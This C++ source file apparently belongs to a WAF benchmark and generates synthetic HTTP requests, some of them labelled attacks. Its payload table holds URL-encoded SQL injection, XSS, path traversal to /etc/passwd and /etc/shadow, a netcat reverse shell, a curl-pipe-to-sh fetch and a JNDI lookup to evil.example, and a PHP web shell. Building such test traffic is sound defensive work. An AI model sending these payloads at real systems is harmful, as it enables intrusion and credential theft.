#include "corpus.hh"

#include <random>

namespace waf_bench {
namespace {

const char* words[] = {"shoes", "coffee", "garden",  "account", "profile", "search", "orders",
                       "cart",  "blue",   "summer",  "api",     "v2",      "items",  "news",
                       "2024",  "report", "invoice", "help",    "union",   "select", "table",
                       "order", "script", "from",    "where",   "update",  "drop",   "alert"};
const char* agents[] = {
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "okhttp/4.12.0", "python-requests/2.31.0"};

struct payload {
  const char* kind;
  const char* text;  // already URL-encoded where needed
};
const payload attacks[] = {
    {"sqli", "1%27%20OR%20%271%27%3D%271"},
    {"sqli", "1%20UNION%20ALL%20SELECT%20username%2Cpassword%20FROM%20users--"},
    {"sqli", "1%27%3B%20DROP%20TABLE%20users%3B--"},
    {"sqli", "1%20AND%20SLEEP(5)"},
    {"sqli", "%27%20AND%201%3D(SELECT%20COUNT(*)%20FROM%20information_schema.tables)--"},
    {"sqli", "admin%27--"},
    {"sqli", "1%20or%20benchmark(10000000%2CMD5(1))%23"},
    {"xss", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"},
    {"xss", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"},
    {"xss", "%3Csvg%2Fonload%3Dalert(1)%3E"},
    {"xss", "javascript%3Aalert(1)"},
    {"xss", "%22%3E%3Ciframe%20src%3Djavascript%3Aalert(1)%3E"},
    {"lfi", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"},
    {"lfi", "....%2F%2F....%2F%2Fetc%2Fshadow"},
    {"lfi", "%2Fproc%2Fself%2Fenviron"},
    {"rce", "127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"},
    {"rce", "%7C%20nc%20-e%20%2Fbin%2Fsh%2010.0.0.1%204444"},
    {"rce", "%24(curl%20http%3A%2F%2Fevil.example%2Fx.sh%7Csh)"},
    {"rce", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"},
    {"php", "%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E"},
};

}  // namespace

std::vector<request> make_corpus(size_t n, double attack_share, uint64_t seed) {
  std::mt19937_64 rng(seed);
  auto pick = [&](auto& arr) -> const auto& {
    return arr[rng() % (sizeof(arr) / sizeof(arr[0]))];
  };
  auto word = [&] { return std::string(pick(words)); };
  std::vector<request> out;
  out.reserve(n);
  for (size_t i = 0; i < n; ++i) {
    request r;
    bool attack = std::uniform_real_distribution<double>(0, 1)(rng) < attack_share;
    bool post = rng() % 4 == 0;
    bool scanner = attack && rng() % 10 == 0;
    std::string path = "/" + word() + "/" + word();
    if (rng() % 3 == 0) path += "/" + std::to_string(rng() % 100000);
    std::vector<std::pair<std::string, std::string>> args;
    size_t nargs = rng() % 5;
    for (size_t k = 0; k < nargs; ++k) {
      std::string v = rng() % 2 ? word() + "+" + word() : std::to_string(rng() % 1000000);
      args.emplace_back(word() + std::to_string(k), v);
    }
    std::string kind = "benign";
    if (attack && !scanner) {
      const payload& p = pick(attacks);
      kind = p.kind;
      args.emplace_back(rng() % 2 ? "id" : "q", p.text);
    }
    std::string qs;
    for (const auto& [k, v] : args) qs += (qs.empty() ? "" : "&") + k + "=" + v;
    std::string ua =
        scanner ? "sqlmap/1.7.2#stable (https://sqlmap.org)" : std::string(pick(agents));
    if (scanner) kind = "scanner";
    std::string head;
    std::string body;
    if (post) {
      body = qs;
      head = "POST " + path + " HTTP/1.1\r\n";
    } else {
      head = "GET " + path + (qs.empty() ? "" : "?" + qs) + " HTTP/1.1\r\n";
    }
    head += "Host: shop.example.com\r\nUser-Agent: " + ua +
            "\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
            "Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\n";
    if (rng() % 2) head += "Cookie: session=" + std::to_string(rng()) + "; theme=dark\r\n";
    if (rng() % 2) head += "Referer: https://shop.example.com/" + word() + "\r\n";
    if (post) {
      head += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " +
              std::to_string(body.size()) + "\r\n";
    }
    head += "\r\n";
    r.bytes = head + body;
    r.attack = attack;
    r.kind = kind;
    out.push_back(std::move(r));
  }
  return out;
}

}  // namespace waf_bench
